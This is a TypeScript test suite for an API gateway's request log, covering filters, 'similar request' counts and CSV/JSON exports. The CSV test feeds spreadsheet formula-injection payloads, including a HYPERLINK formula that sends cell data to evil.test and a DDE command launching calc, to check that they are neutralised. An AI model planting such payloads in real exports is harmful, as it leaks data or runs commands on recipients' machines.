import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { test } from 'node:test';
import type { ExchangeCount } from '#core/model/exchange-count';
import type { ExchangeRecord } from '#core/model/exchange-record';
import { openTestManager, type TestManager } from '#test/support/manager-context';
import { EXPORT_ROWS } from '../exchanges/export.ts';

const MINUTE = 60_000;

let batches = 0;

async function send(
  { context, clock }: TestManager,
  records: readonly Partial<ExchangeRecord>[],
  serverGroup = 'local',
): Promise<void> {
  const now = clock.now();
  batches += 1;
  const whole = records.map(
    (one, i): ExchangeRecord => ({
      ...{
        id: `req_${batches}_${String(i).padStart(5, '0')}`,
        at: now,
        gatewayId: 'gtw_1',
        gateway: 'local-1',
        serverGroup,
      },
      ...{ method: 'GET', host: 'api.test', path: '/orders/1', queryNames: [], remoteAddress: '10.1.2.3', status: 200 },
      ...{ tookMs: 12.5, requestBytes: 0, responseBytes: 7, policies: [], project: 'orders-api', version: 2, ...one },
    }),
  );
  const counts = whole.map(
    ({ at, project = '', version = 0, status, code = '', clientId = '' }): ExchangeCount => ({
      ...{ at: at - (at % 5000), project, version, status, code, clientId, count: 1, took: [], added: [] },
    }),
  );
  const head = { gatewayId: 'gtw_1', name: 'local-1', serverGroup, address: '', softwareVersion: '0', startedAt: 0 };
  const state = { epoch: '', seq: 0, state: 'ready', workers: 1, refused: [], dropped: [], secretsUsed: [] };
  const report = { ...head, ...state, batchId: `b${batches}`, records: whole, counts };
  const taken = await context.services.exchanges.takeReport(JSON.stringify(report), now);
  assert.ok(taken.ok && taken.stored, JSON.stringify(taken));
}

test('the log is filtered by time, project, version, client, server group, gateway, address, time taken and subscription', async (t) => {
  const manager = await openTestManager(t);
  const now = manager.clock.now();
  await manager.run('clients.create', { body: { displayName: 'Mobile shop' } });
  const { id: clientId } = await manager.run('clients.get', { params: { client: 'mobile-shop' } });
  const odd = {
    gateway: 'gw-2',
    version: 3,
    remoteAddress: '192.0.2.9',
    tookMs: 900,
    subscriptionId: 'sub_1',
    clientId,
  };
  await send(manager, [{ at: now - 10 * MINUTE }, {}, odd]);
  await send(manager, [{ project: 'shop-api' }], 'staging');
  const count = async (query: object) => {
    const { items, total } = await manager.run('requests.list', { query });
    return [items.length, total];
  };
  assert.deepEqual(await count({}), [4, 4]);
  assert.deepEqual(await count({ since: String(now - MINUTE) }), [3, 3]);
  assert.deepEqual(await count({ until: String(now - MINUTE) }), [1, 1]);
  assert.deepEqual(await count({ serverGroup: 'staging' }), [1, 1]);
  assert.deepEqual(await count({ project: 'orders-api', version: '3' }), [1, 1]);
  assert.deepEqual(await count({ client: 'mobile-shop' }), [1, 1], 'found by name, counted by id');
  for (const query of [{ gateway: 'gw-2' }, { address: '192.0.2.' }, { minMs: '500' }, { subscription: 'sub_1' }])
    assert.deepEqual(await count(query), [1, undefined]);
});

test('“n like this” is the number that the log shows for its query', async (t) => {
  const manager = await openTestManager(t);
  const refused = { status: 401, code: 'token_expired', clientId: 'cli_1' };
  await send(manager, [{ ...refused, at: manager.clock.now() - 45 * MINUTE }]);
  await send(manager, [refused, refused, { ...refused, clientId: 'cli_2' }, { status: 401, code: 'token_missing' }]);
  const why = await manager.run('requests.why', { params: { request: `req_${batches}_00000` } });
  assert.equal(why.similar.count, 2);
  const list = await manager.run('requests.list', {
    query: Object.fromEntries(new URLSearchParams(why.similar.query)),
  });
  assert.deepEqual([list.items.length, list.total], [2, 2]);
});

async function take(manager: TestManager, query: object): Promise<string> {
  const stream = await manager.run('requests.export', { query });
  assert.ok(stream instanceof Readable);
  return text(stream);
}

/** What a spreadsheet makes of CSV: rows of cells (RFC 4180). */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test('an export as CSV has a header and ISO times, and calculates nothing whatever a caller wrote', async (t) => {
  const manager = await openTestManager(t);
  const hostile = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
  ];
  await send(
    manager,
    hostile.map((value) => ({ path: value, host: value, clientName: value, method: value })),
  );
  await send(manager, [{ path: '/a,b "c"\r\nd', status: 401, code: 'token_expired' }]);
  const csv = await take(manager, { format: 'csv' });
  const [header = [], newest = [], ...rows] = cellsOf(csv);
  assert.deepEqual(header.slice(0, 7), ['time', 'request', 'status', 'code', 'method', 'host', 'path']);
  assert.ok([newest, ...rows].every((row) => row.length === header.length));
  assert.equal(rows.length, hostile.length);
  assert.equal(newest[6], '/a,b "c"\r\nd');
  assert.match(newest[0] ?? '', /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
  for (const value of hostile) assert.ok(rows.flat().includes(`'${value}`), value);
});

test('an export as JSON is one document, as JSON lines one a line, with the same filters', async (t) => {
  const manager = await openTestManager(t);
  await send(manager, [{ path: '/a' }, { path: '/b\u001b[2J' }, { status: 500 }]);
  const all = JSON.parse(await take(manager, { format: 'json' }));
  assert.deepEqual(all.map(({ path }: ExchangeRecord) => path).sort(), ['/a', '/b\u001b[2J', '/orders/1']);
  const lines = (await take(manager, { format: 'jsonl', status: '5xx' })).trim().split('\n');
  assert.deepEqual(
    lines.map((line) => JSON.parse(line).status),
    [500],
  );
  assert.ok(!(await take(manager, { format: 'jsonl' })).includes('\u001b'), 'no control character reaches a terminal');
  assert.deepEqual(JSON.parse(await take(manager, { format: 'json', q: 'nothing' })), []);
});

test('an export ends at the stated number of rows, with the newest', async (t) => {
  const manager = await openTestManager(t);
  const now = manager.clock.now();
  for (let part = 0; part < 3; part += 1)
    await send(
      manager,
      Array.from({ length: 4000 }, (_, i) => ({ at: now - part * 4000 - i })),
    );
  const lines = (await take(manager, { format: 'jsonl' })).trim().split('\n');
  assert.equal(lines.length, EXPORT_ROWS);
  assert.equal(JSON.parse(lines[0] ?? '').at, now);
  assert.equal(JSON.parse(lines.at(-1) ?? '').at, now - EXPORT_ROWS + 1);
});
